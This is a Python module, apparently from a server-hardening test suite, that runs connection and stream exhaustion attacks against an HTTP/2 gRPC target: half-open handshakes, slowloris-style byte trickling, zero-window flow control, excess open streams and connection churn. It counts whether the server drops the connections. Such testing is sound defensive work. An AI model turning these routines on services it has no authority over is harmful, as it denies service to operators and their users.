"""Attacks by connections and streams that are there and do not go on."""

import struct
import time

import h2
import sending


def _client_hello(target):
    """The first half of what a TLS client begins with; for plaintext the first half of the preface."""
    if target.context is None:
        return h2.PREFACE[:12]
    return b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\x5a" * 100


def half_open(target, scale):
    """Connections that begin their handshakes and say no more, 100 without a byte and 100 with half of the first message."""
    begun = _client_hello(target)
    connections = []
    try:
        for number in range(200 * scale):
            raw = target.open_tcp()
            connections.append(raw)
            if number % 2:
                raw.sendall(begun)
        outcomes = _closed_until(connections, time.monotonic() + sending.SLOW_SECONDS)
    finally:
        for raw in connections:
            raw.close()
    return sending.count(outcomes)


def _closed_until(connections, deadline):
    """`closed` or `open` of each socket, at the latest at the deadline."""
    outcomes = []
    for raw in connections:
        outcome = None
        while outcome is None:
            raw.settimeout(max(0.001, deadline - time.monotonic()))
            try:
                if not raw.recv(1 << 14):
                    outcome = "closed"
            except TimeoutError:
                outcome = "open"
            except OSError:
                outcome = "closed"
        outcomes.append(outcome)
    return outcomes


def slow_bytes(target, scale):
    """A byte each second: in the preface, in a frame's header, in a header block, in a message; 20 connections of each kind."""
    call = h2.headers(1, h2.grpc_headers(sending.VERIFY))
    starts = [
        (b"", h2.PREFACE),
        (h2.PREFACE + h2.settings(), call),
        (h2.PREFACE + h2.settings() + call[:20], call[20:]),
        (h2.PREFACE + h2.settings() + call, h2.frame(h2.DATA, 0, 1, h2.message(b"\x0a\x40" + b"k" * 64))),
    ]
    slow = []
    try:
        for at_once, drop_by_drop in starts * (20 * scale):
            connection = h2.Connection(target, at_once)
            slow.append((connection, drop_by_drop))
        for second in range(sending.SLOW_SECONDS):
            for connection, drops in slow:
                connection.send(drops[second : second + 1])
            time.sleep(1)
        outcomes = []
        for connection, _ in slow:
            connection.read_frames(0.001)
            outcomes.append(connection.outcome)
    finally:
        for connection, _ in slow:
            connection.close()
    return sending.count(outcomes)


def zero_window(target, scale):
    """Connections that ask in full and leave no room for the answers, with as many streams as there may be."""
    block = h2.grpc_headers(sending.HEALTH)
    calls = b"".join(
        h2.headers(stream, block) + h2.frame(h2.DATA, h2.END_STREAM, stream, h2.message(b"")) for stream in sending.streams(100)
    )
    connections = []
    try:
        for _ in range(20 * scale):
            no_room = h2.PREFACE + h2.settings((h2.SETTINGS_INITIAL_WINDOW_SIZE, 0))
            connections.append(h2.Connection(target, no_room))
            connections[-1].send(calls)
        time.sleep(1)
        return sending.count([sending.ending(connection, 0.01) for connection in connections])
    finally:
        for connection in connections:
            connection.close()


def open_streams(target, scale):
    """Streams that begin and never go on: calls without a message, and watches of the health."""
    connections = []
    try:
        for number in range(20 * scale):
            block = h2.grpc_headers(sending.WATCH if number % 2 else sending.VERIFY)
            connections.append(h2.Connection(target))
            watch = h2.frame(h2.DATA, h2.END_STREAM, 0, h2.message(b""))
            for stream in sending.streams(150):  # 50 more than there may be
                connections[-1].send(h2.headers(stream, block))
                if number % 2:
                    connections[-1].send(watch[:5] + struct.pack(">I", stream) + watch[9:])
        time.sleep(1)
        return sending.count([sending.ending(connection, 0.01) for connection in connections])
    finally:
        for connection in connections:
            connection.close()


def many_connections(target, scale):
    """Connections that come and go, and some that stay."""
    kept = []
    try:
        for number in range(300 * scale):
            connection = h2.Connection(target)
            if number % 3:
                connection.close()
            else:
                kept.append(connection)
        return sending.count([sending.ending(connection, 0.01) for connection in kept])
    finally:
        for connection in kept:
            connection.close()
